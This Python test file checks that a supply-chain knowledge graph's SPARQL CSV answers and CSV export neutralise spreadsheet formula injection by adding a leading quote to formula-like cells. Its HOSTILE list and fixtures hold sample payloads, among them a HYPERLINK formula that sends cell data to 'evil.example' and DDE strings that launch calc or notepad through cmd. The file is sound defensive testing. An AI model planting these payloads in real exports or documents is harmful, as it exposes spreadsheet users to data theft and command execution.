"""CSV that a spreadsheet opens as text: formula-like cells get a leading ``'`` in SPARQL CSV
answers (the engine's writer and ours) and in the export's nodes.csv/edges.csv; numbers stay."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from dataclasses import replace

import httpx
import pytest

from supplychain_kg.config import Settings
from supplychain_kg.csvsafe import safe_csv_document, spreadsheet_safe
from supplychain_kg.model import IRI, BNode, Literal
from supplychain_kg.service import KnowledgeGraph
from supplychain_kg.sparql.results import CSV, write_rows
from tests.conftest import FIXTURES
from tests.export_support import ONTOLOGY
from tests.live import serve

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1 555 0100",
    "\tTabbed, Integrator",
    "=cmd|' /C notepad'!A0",
    "=1+1",
    "\r=1",
]
NUMBERS = ["-1.5", "+3", "1e-3", "-0", ".5", "12"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_cell_gets_a_leading_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", [*NUMBERS, "Hikvision", "", "a=b", "'already", "_:b0"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_a_csv_document_is_rewritten_cell_by_cell_by_its_quoting() -> None:
    body = (
        b"name,n,note\r\n"
        b'"a,=not a cell start",-1.5,"=HYPERLINK(""x"")"\r\n'
        b'@evil,+3,"line one\r\n=line two"\r\n'
        b'\tx,-abc,"\r=1"\r\n'
        b",,\r\n"
    )
    rows = list(csv.reader(io.StringIO(safe_csv_document(body).decode(), newline="")))
    assert rows == [
        ["name", "n", "note"],
        ["a,=not a cell start", "-1.5", '\'=HYPERLINK("x")'],
        ["'@evil", "+3", "line one\r\n=line two"],
        ["'\tx", "'-abc", "'\r=1"],
        ["", "", ""],
    ]


def test_a_safe_document_is_returned_as_it_is() -> None:
    body = b"s,n\r\nhttp://e/1,1\r\n_:b1,2\r\n"
    assert safe_csv_document(body) is body  # no copy
    numbers = b"s,n\r\nhttp://e/1,-1\r\n_:b1,-2.5e-3\r\n"
    assert safe_csv_document(numbers) == numbers


def test_our_csv_writer_neutralises_literals_only() -> None:
    rows = [
        {"v": Literal("=1+1"), "n": Literal("-2", "http://www.w3.org/2001/XMLSchema#integer")},
        {"v": IRI("http://example.org/=x"), "n": BNode("b0")},
    ]
    body = write_rows(["v", "n"], rows, CSV).decode()
    assert body == "v,n\r\n'=1+1,-2\r\nhttp://example.org/=x,_:b0\r\n"


@pytest.fixture(scope="module")
def hostile() -> Iterator[KnowledgeGraph]:
    kg = KnowledgeGraph.open(Settings(memory=True, seed=False))
    kg.load([ONTOLOGY, FIXTURES / "csv-injection.ttl"])
    yield kg
    kg.close()


LABELS = """PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
PREFIX skos: <http://www.w3.org/2004/02/skos/core#>
PREFIX dcterms: <http://purl.org/dc/terms/>
SELECT ?name WHERE { ?e rdfs:label|skos:altLabel|dcterms:identifier|dcterms:title ?name }"""


def _csv_answer(url: str, query: str) -> list[list[str]]:
    answer = httpx.get(f"{url}/sparql", params={"query": query}, headers={"accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(answer.text, newline="")))


def _assert_safe(cells: list[str]) -> None:
    for cell in cells:
        if cell in NUMBERS or not cell:
            continue
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_sparql_csv_answers_are_safe_in_a_spreadsheet(hostile: KnowledgeGraph) -> None:
    with serve(hostile.settings, hostile) as url:
        names = [row[0] for row in _csv_answer(url, LABELS)[1:]]
    _assert_safe(names)
    assert "'" + HOSTILE[0] in names  # the whole name, behind the quote: nothing is lost
    assert "'=cmd|' /C notepad'!A0" in names
    assert "-1.5" in names and "1e-3" in names  # numbers stay numbers


def test_the_row_by_row_writer_path_is_as_safe(hostile: KnowledgeGraph) -> None:
    # a row cap of 1 leaves the engine a 1 KiB buffer: a longer answer is written row by row
    long_name = "=HYPERLINK(" + "A" * 2000 + ")"
    hostile.store.update(
        f'INSERT DATA {{ <https://w3id.org/supplychain-kg/id/f-long> <urn:x:name> "{long_name}" }}'
    )
    settings = replace(hostile.settings, result_cap=1)
    with serve(settings, hostile) as url:
        rows = _csv_answer(url, "SELECT ?n WHERE { ?e <urn:x:name> ?n }")
    assert rows == [["n"], ["'" + long_name]]


def test_the_csv_export_is_safe_in_a_spreadsheet(hostile: KnowledgeGraph) -> None:
    with serve(hostile.settings, hostile) as url:
        answer = httpx.get(f"{url}/export", params={"format": "csv"}, timeout=30)
    assert answer.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    tables = {
        name: list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))
        for name in ("nodes.csv", "edges.csv")
    }
    for rows in tables.values():
        for row in rows:
            _assert_safe(list(row.values()))
    vendor = next(r for r in tables["nodes.csv"] if r["entity_id"] == "f-vendor")
    assert vendor["label"] == "'" + HOSTILE[0]
    assert vendor["identifiers"].startswith("'")
    assert vendor["aliases"].startswith("'")
    integrator = next(r for r in tables["nodes.csv"] if r["entity_id"] == "f-integrator")
    assert integrator["label"] == "'\tTabbed, Integrator"
    (edge,) = tables["edges.csv"]
    assert edge["claims"] == "1"
    assert edge["sources"] == "'=cmd\\|' /C notepad'!A0"  # the source's title (| escaped)
